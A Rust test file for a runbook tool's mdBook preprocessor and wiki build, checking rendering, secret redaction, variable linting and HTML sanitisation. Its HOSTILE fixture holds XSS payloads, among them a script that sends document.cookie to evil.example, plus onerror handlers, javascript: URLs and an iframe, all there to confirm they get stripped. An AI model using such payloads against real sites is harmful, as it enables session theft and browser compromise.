//! The mdBook preprocessor (`runbook mdbook`) and the wiki build
//! (`scripts/build-book`).

use std::path::{Path, PathBuf};
use std::process::Command;

use mdbook_preprocessor::PreprocessorContext;
use mdbook_preprocessor::book::{Book, BookItem, Chapter};

use crate::common::*;

const RUNBOOK: &str = r#"---
id: 2.1-head-stall
vars:
  tail: 200
  api_token: hunter2
envs: [devnet, prod]
requires: [kubectl]
timeout: 45m
---

# 2.1 Head not advancing

Intro prose, with `code` and a [link](other.md).

## Diagnose

```bash {#pods read timeout=30s}
kubectl get pods -n {{ namespace }}
```

> ```bash {#logs read capture=node_log retry=2 delay=5s expect="ready"}
> kubectl logs node -n {{ namespace }} --tail={{ tail }}
> ```

```manual {#dashboard read}
- [ ] Open Grafana → **Node** dashboard.
```

- Remediation:

```bash {#restart needs=pods,logs when="'stall' in node_log" confirm="restart the node in {{ namespace }}?" timeout=6m budget=10m escalate="page the node lead" rollback=undo-restart on-fail=continue}
kubectl rollout restart statefulset/animica-node -n {{ namespace }}
kubectl --token {{ api_token }} annotate statefulset/animica-node -n {{ namespace }} restarted=1
```

```bash {#undo-restart undo}
kubectl rollout undo statefulset/animica-node -n {{ namespace }}
```

- Afterwards: file a report.
"#;

const CONFIG_TOML: &str = r#"
default_env = "devnet"

[env.devnet]
namespace = "animica-devnet"

[env.prod]
namespace = "animica"
api_token = "pr0d-t0ken"
confirm = "write"
"#;

#[test]
fn rendered_page_snapshot() {
    let config = runbook::config::Config::from_str(Path::new("runbook.toml"), CONFIG_TOML).unwrap();
    let page = runbook::mdbook::render_page(Path::new("runbooks/2.1-head-stall.md"), RUNBOOK, &config).unwrap();
    assert!(!page.contains("{#"), "{page}");
    assert!(!page.contains("hunter2"), "secret default leaked:\n{page}");
    assert!(!page.contains("pr0d-t0ken"), "secret of an env leaked:\n{page}");
    assert!(!page.contains("timeout: 45m"), "front matter leaked:\n{page}");
    insta::assert_snapshot!("rendered_page", page);
}

#[test]
fn supports_every_renderer() {
    for r in ["html", "markdown", "epub"] {
        Test::new().args(["mdbook", "supports", r]).status(0).run();
    }
}

#[test]
fn help_names_it_the_preprocessor() {
    Test::new().args(["mdbook", "--help"]).stdout_has("mdBook 0.5 preprocessor entry point").run();
    Test::new().args(["--help"]).stdout_has("mdbook").run();
}

fn book_input(root: &Path, chapters: &[(&str, &str)]) -> String {
    let mut config = mdbook_preprocessor::config::Config::default();
    config.book.src = PathBuf::from("runbooks");
    let ctx = PreprocessorContext::new(root.to_path_buf(), config, "html".into());
    let mut book = Book::new();
    for (file, content) in chapters {
        book.push_item(Chapter::new(file, content.to_string(), *file, Vec::new()));
    }
    serde_json::to_string(&(&ctx, &book)).unwrap()
}

fn chapters(book: &Book) -> Vec<&Chapter> {
    book.iter()
        .filter_map(|i| match i {
            BookItem::Chapter(c) => Some(c),
            _ => None,
        })
        .collect()
}

#[test]
fn preprocesses_runbooks_and_passes_other_pages_through() {
    let t = Test::new();
    let intro = "# Introduction\n\nNo steps here.\n\n```bash\necho docs\n```\n";
    let input =
        book_input(t.path(), &[("introduction.md", intro), ("2.1-head-stall.md", RUNBOOK), ("howto.md", HOWTO)]);
    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    let ch = chapters(&book);
    assert_eq!(ch[0].content, intro, "a page that is not a runbook is unchanged");
    assert_eq!(ch[2].content, HOWTO, "a page that only shows step syntax is unchanged");
    let page = &ch[1].content;
    assert!(page.starts_with("# 2.1 Head not advancing\n"), "{page}");
    assert!(!page.contains("{#"), "{page}");
    assert!(page.contains("id=\"step-pods\""), "{page}");
    // The test project's runbook.toml (tests/common): devnet by default.
    let devnet = "<pre class=\"runbook-code\" data-runbook-env=\"devnet\"><code class=\"language-bash\">kubectl get pods -n animica-devnet</code></pre>";
    assert!(page.contains(devnet), "{page}");
    let prod = "<pre class=\"runbook-code\" data-runbook-env=\"prod\" hidden><code class=\"language-bash\">kubectl get pods -n animica</code></pre>";
    assert!(page.contains(prod), "{page}");
    assert!(page.contains("devnet: <code>animica-devnet</code>"), "env values from runbook.toml:\n{page}");
}

#[test]
fn a_wiki_pages_own_front_matter_is_not_shown() {
    let t = Test::new();
    let page =
        "---\ntitle: Rotating certificates\ntags: [tls]\nowner: platform\n---\n# Rotating certificates\n\nText.\n";
    let input = book_input(t.path(), &[("certs.md", page)]);
    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    assert_eq!(chapters(&book)[0].content, "# Rotating certificates\n\nText.\n");
}

#[test]
fn a_page_opening_with_a_horizontal_rule_passes_through() {
    let t = Test::new();
    let page = "---\n\n# Page\n\ntext\n";
    let input = book_input(t.path(), &[("hr.md", page)]);
    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    assert_eq!(chapters(&book)[0].content, page);
}

/// A runbook whose prose holds what would run in a reader's browser, next to
/// the markup an author legitimately uses.
const HOSTILE: &str = r#"# Hostile

## Background {#bg .wide onmouseover=alert(5)}

<script>document.location='https://evil.example/?c='+document.cookie</script>

Text <img src="x.png" onerror="alert(1)"> and [click](javascript:alert(2)) and
<a href="JaVaScRiPt:alert(3)">this</a>.

<iframe src="https://evil.example/frame"></iframe>

<details>
<summary>Background</summary>

Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; see [the doc](https://example.com/doc) and [the other](other.md).

</details>

| env | value |
|-----|-------|
| prod | `<b>` |

```bash {#a read}
echo '<script>'
```
"#;

#[test]
fn a_pages_raw_html_is_cleaned_and_its_markup_kept() {
    let t = Test::new();
    let input =
        book_input(t.path(), &[("hostile.md", HOSTILE), ("wiki.md", "# Wiki\n\n<img src=x onerror=alert(4)>\n")]);
    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    let ch = chapters(&book);
    let page = &ch[0].content;
    // The plan quotes the heading as text (`— Background {#bg …}`): the
    // handler must be gone from the heading itself.
    for gone in [
        "<script>document",
        "document.cookie",
        "onerror",
        "javascript:alert(2)",
        "JaVaScRiPt",
        "<iframe",
        "alert(5)}\n",
    ] {
        assert!(!page.contains(gone), "{gone} is left:\n{page}");
    }
    for kept in [
        "## Background {#bg .wide}\n",
        "Text <img src=\"x.png\"> and click and\n<a>this</a>.\n",
        "<details>\n<summary>Background</summary>\n\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>; see [the doc](https://example.com/doc) and [the other](other.md).\n\n</details>\n",
        "| env | value |\n|-----|-------|\n| prod | `<b>` |\n",
        "<code class=\"language-bash\">echo '&lt;script&gt;'</code>",
    ] {
        assert!(page.contains(kept), "{kept:?} is not kept:\n{page}");
    }
    assert_eq!(ch[1].content, "# Wiki\n\n<img src=\"x\">\n", "a page that is not a runbook is cleaned too");
}

#[test]
fn broken_runbook_fails_the_book_with_its_location() {
    let t = Test::new();
    let bad = "# Bad\n\n```bash {#x nope}\n:\n```\n";
    let input = book_input(t.path(), &[("ok.md", RUNBOOK), ("bad.md", bad)]);
    t.args(["mdbook"]).stdin(&input).status(2).stderr_has("runbooks/bad.md:3").stderr_has("unknown attribute").run();
}

#[test]
fn garbage_input_is_invalid() {
    Test::new().args(["mdbook"]).stdin("not json").status(2).stderr_has("mdBook").run();
}

// --- scripts/build-book, end to end (needs mdbook on PATH) ---

fn mdbook_available() -> bool {
    let ok = Command::new("mdbook").arg("--version").output().is_ok_and(|o| o.status.success());
    if !ok {
        eprintln!("notice: mdbook is not on PATH, skipping the wiki build test (CI installs it)");
    }
    ok
}

const BOOK_TOML: &str = "[book]\ntitle = \"t\"\nsrc = \"runbooks\"\n\n[build]\ncreate-missing = false\n\n[preprocessor.runbook]\ncommand = \"target/release/runbook mdbook\"\n";

/// A wiki page about writing runbooks: step syntax inside an example, no step.
const HOWTO: &str = "# Writing steps\n\nAnnotate a block after its language:\n\n````markdown\n```bash {#pods read}\nkubectl get pods\n```\n````\n\nOr inline: `{#id read}`.\n";

fn tiny_book() -> Test {
    Test::new()
        .file("book.toml", BOOK_TOML)
        .file(
            "runbooks/SUMMARY.md",
            "# Summary\n\n[Introduction](introduction.md)\n\n- [Head](2.1-head-stall.md)\n- [Other](./other.md)\n- [How to](howto.md)\n",
        )
        .file("runbooks/introduction.md", "# Introduction\n\nThe wiki.\n")
        .file("runbooks/howto.md", HOWTO)
        .file("runbooks/2.1-head-stall.md", RUNBOOK)
        .runbook("other", "# Other\n\n```manual {#look}\n- [ ] look\n```\n")
}

fn build_book(dir: &Path) -> std::process::Output {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/build-book");
    Command::new("bash").arg(script).arg(dir).env("RUNBOOK_BIN", bin()).env("RUNBOOK_LOG", "warn").output().unwrap()
}

fn html_files(dir: &Path) -> Vec<PathBuf> {
    walk(dir).into_iter().filter(|p| p.extension().is_some_and(|e| e == "html")).collect()
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() { out.extend(walk(&p)) } else { out.push(p) }
    }
    out
}

#[test]
fn build_book_renders_headers_and_leaks_no_attributes() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book();
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "build-book failed:\n{stderr}");
    let page = std::fs::read_to_string(t.path().join("book/2.1-head-stall.html")).unwrap();
    assert!(page.contains("<div class=\"runbook-step\" id=\"step-pods\">"), "{page}");
    assert!(page.contains("asks: “restart the node in animica-devnet?”"), "{page}");
    assert!(page.contains("<ol class=\"runbook-plan\">"), "{page}");
    assert!(page.contains("<code class=\"language-bash\">"), "{page}");
    let howto = std::fs::read_to_string(t.path().join("book/howto.html")).unwrap();
    assert!(howto.contains("{#pods read}"), "the example of step syntax stays: {howto}");
    for f in html_files(&t.path().join("book")) {
        let html = std::fs::read_to_string(&f).unwrap();
        // Attributes leak into a code block's class (`language-bash {#pods read}`).
        let leaked = html.split("class=\"language-").skip(1).any(|rest| rest.split('"').next().unwrap().contains("{#"));
        assert!(!leaked, "{} has step attributes in a class", f.display());
        if !f.ends_with("howto.html") && !f.ends_with("print.html") {
            assert!(!html.contains("{#"), "{} has `{{#`", f.display());
        }
        assert!(!html.contains("requires: [kubectl]"), "{} shows the front matter", f.display());
    }
}

#[test]
fn build_book_shows_the_default_env_without_scripts() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book();
    let out = build_book(t.path());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let page = std::fs::read_to_string(t.path().join("book/2.1-head-stall.html")).unwrap();
    // The default env's command is in the page as it is; the other env's twin is hidden.
    let devnet = "<pre class=\"runbook-code\" data-runbook-env=\"devnet\"><code class=\"language-bash\">kubectl get pods -n animica-devnet</code></pre>";
    assert!(page.contains(devnet), "{page}");
    let prod = "<pre class=\"runbook-code\" data-runbook-env=\"prod\" hidden=\"\"><code class=\"language-bash\">kubectl get pods -n animica</code></pre>";
    assert!(page.contains(prod), "{page}");
}

/// A preprocessor that leaves `{{ namespace }}` in the commands (here: the
/// real one, with its devnet value turned back into the template) fails the
/// build, naming the page, the step and the variable.
#[test]
fn build_book_fails_on_an_unrendered_command() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book();
    let wrapper = t.path().join("unrendering-runbook");
    std::fs::write(
        &wrapper,
        format!(
            "#!/bin/bash\nif [ \"$1\" = mdbook ] && [ $# = 1 ]; then {bin} mdbook | sed 's/animica-devnet/{{{{ namespace }}}}/g'\nelse exec {bin} \"$@\"; fi\n",
            bin = bin().display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/build-book");
    let out = Command::new("bash").arg(script).arg(t.path()).env("RUNBOOK_BIN", &wrapper).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(
            "book/2.1-head-stall.html: step pods still shows {{ namespace }}, but namespace has a value in the default env"
        ),
        "{stderr}"
    );
    let question = "book/2.1-head-stall.html: the question of step restart still shows {{ namespace }}, but namespace has a value in the default env";
    assert!(stderr.contains(question), "{stderr}");
}

/// What mdBook makes of a hostile page: no handler, no script of the
/// author's, no frame, no `javascript:` URL; the author's markup is there.
#[test]
fn build_book_serves_no_script_of_a_pages_author() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book().runbook("other", HOSTILE);
    let out = build_book(t.path());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let page = std::fs::read_to_string(t.path().join("book/other.html")).unwrap();
    let main = &page[page.find("<main>").expect("a <main>")..page.find("</main>").expect("a </main>")];
    for gone in ["<script", "document.cookie", "onerror", "onmouseover=\"", "javascript:", "<iframe"] {
        assert!(!main.to_lowercase().contains(&gone.to_lowercase()), "{gone} is left:\n{main}");
    }
    for kept in [
        "<details>",
        "<summary>Background</summary>",
        "<kbd>Ctrl</kbd>",
        "href=\"https://example.com/doc\"",
        "href=\"other.html\"",
        "<table>",
        "<img src=\"x.png\"",
    ] {
        assert!(main.contains(kept), "{kept} is not kept:\n{main}");
    }
    assert!(main.contains("id=\"bg\""), "{main}");
}

#[test]
fn build_book_fails_when_the_preprocessor_is_off() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book().file("book.toml", "[book]\ntitle = \"t\"\nsrc = \"runbooks\"\n");
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("book/2.1-head-stall.html: step attributes leaked"), "{stderr}");
}

#[test]
fn build_book_fails_on_an_unlinked_runbook() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book().runbook("2.9-orphan", "# Orphan\n\n```bash {#a read}\necho\n```\n");
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("runbooks/2.9-orphan.md: runbook not linked in runbooks/SUMMARY.md"), "{stderr}");
}

#[test]
fn build_book_fails_on_a_broken_runbook() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book().runbook("other", "# Other\n\n```bash {#x nope}\n:\n```\n");
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("runbooks/other.md:3: error: unknown attribute"), "{stderr}");
    assert!(stderr.contains("mdbook build failed"), "{stderr}");
}

/// A documentation block holding a Go template (`kubectl -o go-template`) is
/// shown as written, with a note, and build-book passes with a warning; the
/// escape of docs/wiki.md (`{% raw %}`) gets the runbook's values filled in.
#[test]
fn build_book_shows_a_go_template_as_written() {
    if !mdbook_available() {
        return;
    }
    let page = "# Other\n\nTo list the pods by name:\n\n```bash\nkubectl get pods -n {{ namespace }} -o go-template='{{range .items}}{{.metadata.name}} {{end}}'\n```\n\nWith the env's namespace:\n\n```bash\nkubectl get pods -n {{ namespace }} -o go-template='{% raw %}{{range .items}}{{.metadata.name}} {{end}}{% endraw %}'\n```\n\n```bash {#look read}\nkubectl get ns {{ namespace }}\n```\n";
    let t = tiny_book().runbook("other", page);
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("build-book: warning: book/other.html: a code block is shown as written: its {{ … }} does not compile as a runbook template"),
        "{stderr}"
    );
    let html = std::fs::read_to_string(t.path().join("book/other.html")).unwrap();
    assert!(html.contains("<p class=\"runbook-note\">Shown as written"), "{html}");
    assert!(
        html.contains("<code class=\"language-bash\">kubectl get pods -n {{ namespace }} -o go-template='{{range .items}}{{.metadata.name}} {{end}}'</code>"),
        "{html}"
    );
    assert!(
        html.contains(
            "kubectl get pods -n animica-devnet -o go-template='{{range .items}}{{.metadata.name}} {{end}}'</code>"
        ),
        "{html}"
    );
}

/// A step `{{#include}}`d from another page is shown, marked as not played
/// with this runbook; the page's plan is what `runbook plan` has.
#[test]
fn build_book_marks_an_included_step_as_not_played() {
    if !mdbook_available() {
        return;
    }
    let summary = "# Summary\n\n- [Head](2.1-head-stall.md)\n- [Other](./other.md)\n- [How to](howto.md)\n- [Ctx](common/ctx.md)\n- [Inc](inc.md)\n";
    let t = tiny_book()
        .file("runbooks/SUMMARY.md", summary)
        .file("runbooks/common/ctx.md", "# Context\n\n```bash {#ctx read}\nkubectl config current-context\n```\n")
        .file(
            "runbooks/inc.md",
            "---\nid: inc\n---\n# Inc\n\n{{#include common/ctx.md:3:}}\n\n```bash {#after read}\necho after\n```\n",
        );
    let out = build_book(t.path());
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let html = std::fs::read_to_string(t.path().join("book/inc.html")).unwrap();
    let header = html.split("id=\"step-ctx\"").nth(1).and_then(|h| h.split("</div>").next()).unwrap_or_default();
    assert!(header.contains("included from <code>common/ctx.md</code>, not played with this runbook"), "{html}");
    let ol = html.split("<ol class=\"runbook-plan\">").nth(1).unwrap().split("</ol>").next().unwrap();
    assert!(ol.contains("#step-after") && !ol.contains("#step-ctx"), "{ol}");
    assert!(html.contains("The plan (1 step"), "{html}");
    let plan = t.args(["plan", "inc"]).run().stdout;
    assert!(plan.contains("after") && !plan.contains("ctx"), "{plan}");
}

/// `owner` and `tags` of the front matter are under the title, before the
/// "Play it" line; a runbook without them has no such line.
#[test]
fn owner_and_tags_are_shown_under_the_title() {
    let config = runbook::config::Config::defaults(Path::new("."));
    let md =
        "---\nowner: platform <team>\ntags: [p2p, node]\n---\n# T\n\n```bash {#pods read}\nkubectl get pods\n```\n";
    let page = runbook::mdbook::render_page(Path::new("runbooks/t.md"), md, &config).unwrap();
    let summary = page.split("<div class=\"runbook-summary\"").nth(1).unwrap().split("</div>").next().unwrap();
    assert_eq!(
        summary,
        " data-runbook-envs=\"(none)\" data-runbook-default=\"(none)\" data-runbook-valued=\"\">\n\
         <p class=\"runbook-about\">Owner: <span class=\"runbook-owner\">platform &lt;team&gt;</span> <span class=\"runbook-sep\">·</span> Tags: <span class=\"runbook-tags\">p2p, node</span></p>\n\
         <p>Read-only: 1 check, nothing here changes the system. <strong>Play it:</strong> <code>runbook play t</code>.</p>\n\
         <p class=\"runbook-envs\">Commands and values with the runbook's defaults (no env).</p>\n"
    );
    let md = "---\ntags: ops\nowner: ~\n---\n# T\n\n```bash {#pods read}\nkubectl get pods\n```\n";
    let page = runbook::mdbook::render_page(Path::new("runbooks/t.md"), md, &config).unwrap();
    assert!(
        page.contains("\n<p class=\"runbook-about\">Tags: <span class=\"runbook-tags\">ops</span></p>\n"),
        "{page}"
    );
    let page = runbook::mdbook::render_page(Path::new("runbooks/t.md"), RUNBOOK, &config).unwrap();
    assert!(!page.contains("runbook-about"), "{page}");
}

const MISSPELT: &str = "---\nvars:\n  tail: 200\n---\n# M\n\n```bash {#logs read}\nkubectl logs node --tail={{ tial }}\n```\n\nBy hand:\n\n```bash\nkubectl logs node --tail={{ tali }}\n```\n";

/// A misspelt variable in a step fails the book as it fails `runbook
/// check` (same lint, same words, same place); in a documentation block it
/// is a warning and the book builds.
#[test]
fn a_misspelt_variable_fails_the_book_in_a_step_and_warns_in_a_doc_block() {
    let t = Test::new().runbook("m", MISSPELT);
    let check = Test::new().runbook("m", MISSPELT).args(["check", "runbooks/m.md"]).any_status().run();
    let said = "runbooks/m.md:8: error[undefined-variable]: undefined variable `tial` in step `logs`\n  hint: define `tial` in front matter `vars` or in the [env] profile, or capture it in a step this one `needs`\n";
    assert!(check.stdout.contains(said) || check.stderr.contains(said), "{}{}", check.stdout, check.stderr);
    let input = book_input(t.path(), &[("m.md", MISSPELT)]);
    t.args(["mdbook"])
        .stdin(&input)
        .status(2)
        .stderr_has("runbooks/m.md:8: error: undefined variable `tial` in step `logs`\n  hint: define `tial` in front matter `vars` or in the [env] profile, or capture it in a step this one `needs`\n")
        .stderr_has("runbooks/m.md:14: warning: undefined variable `tali` in a documentation block: the wiki shows it as <tali>\n")
        .run();
    let doc_only = MISSPELT.replace("{{ tial }}", "{{ tail }}");
    let t = Test::new().runbook("m", &doc_only);
    let input = book_input(t.path(), &[("m.md", &doc_only)]);
    t.args(["mdbook"])
        .stdin(&input)
        .status(0)
        .stderr_has("runbooks/m.md:14: warning: undefined variable `tali` in a documentation block")
        .stderr_lacks("error")
        .run();
}

/// Through `scripts/build-book`: the book does not build.
#[test]
fn build_book_fails_on_a_misspelt_variable() {
    if !mdbook_available() {
        return;
    }
    let t = tiny_book().runbook("other", MISSPELT);
    let out = build_book(t.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("runbooks/other.md:8: error: undefined variable `tial` in step `logs`"), "{stderr}");
    assert!(stderr.contains("mdbook build failed"), "{stderr}");
}

/// A quoted `{{ }}` whose value needs quoting: inside double quotes a value
/// with a space or a `'` is written as it is, and the page shows the command
/// `runbook plan` shows (what the play runs); a value quoting cannot protect
/// there (a `'` inside single quotes) makes the play refuse the step, and
/// the book fails with the play's own words, never showing a command the
/// play would not run (docs/wiki.md).
#[test]
fn a_quoted_template_shows_what_the_play_runs_or_fails_the_book_as_the_play_refuses() {
    let md = "---\nvars:\n  msg: hello world\n  quip: \"it's done\"\n---\n# Q\n\n```bash {#say read}\necho \"{{ msg }}\" \"{{ quip }}\"\n```\n";
    let plan = Test::new().config("").runbook("q", md).args(["plan", "q"]).run();
    assert!(plan.stdout.contains("    $ echo \"hello world\" \"it's done\"\n"), "{}", plan.stdout);
    let t = Test::new().config("").runbook("q", md);
    let input = book_input(t.path(), &[("q.md", md)]);
    let f = t.args(["mdbook"]).stdin(&input).status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    let page = &chapters(&book)[0].content;
    let shown = "<pre class=\"runbook-code\"><code class=\"language-bash\">echo &quot;hello world&quot; &quot;it's done&quot;</code></pre>";
    assert!(page.contains(shown), "{page}");

    let refused = md.replace("\"{{ quip }}\"", "'{{ quip }}'");
    Test::new()
        .config("")
        .runbook("q", &refused)
        .args(["plan", "q"])
        .status(2)
        .stderr_has("runbooks/q.md:9: error: step `say`, its body: a value with a `'` is inside single quotes, where it would end them; it could change the command\n")
        .run();
    let t = Test::new().config("").runbook("q", &refused);
    let input = book_input(t.path(), &[("q.md", &refused)]);
    t.args(["mdbook"])
        .stdin(&input)
        .status(2)
        .stderr_has("runbooks/q.md:9: error: step `say`, its body: a value with a `'` is inside single quotes, where it would end them; it could change the command\n  hint: move the `{{ }}` out of the quotes")
        .run();
}

/// The wiki's values come from the repository, never from the builder's
/// environment: `RUNBOOK_VAR_namespace` changes neither a step nor a
/// documentation block (docs/wiki.md).
#[test]
fn the_builders_environment_gives_the_wiki_no_value() {
    let md = "# E\n\n```bash {#pods read}\nkubectl get pods -n {{ namespace }}\n```\n\nBy hand:\n\n```bash\nkubectl get svc -n {{ namespace }}\n```\n";
    let t = Test::new().config("").runbook("e", md);
    let input = book_input(t.path(), &[("e.md", md)]);
    // `namespace` has no value anywhere: the step fails the book as check fails it.
    t.args(["mdbook"])
        .stdin(&input)
        .env("RUNBOOK_VAR_namespace", "from-env")
        .status(2)
        .stderr_has("undefined variable `namespace` in step `pods`")
        .run();
    let md = md.replace("# E\n", "---\nvars:\n  namespace: ~\n---\n# E\n");
    let t = Test::new().config("").runbook("e", &md);
    let input = book_input(t.path(), &[("e.md", &md)]);
    let f = t.args(["mdbook"]).stdin(&input).env("RUNBOOK_VAR_namespace", "from-env").status(0).run();
    let book: Book = serde_json::from_str(&f.stdout).expect("a book on stdout");
    let page = &chapters(&book)[0].content;
    assert!(!page.contains("from-env"), "{page}");
    assert_eq!(page.matches("&lt;namespace&gt;").count(), 2, "a placeholder in the step and in the doc block:\n{page}");
}
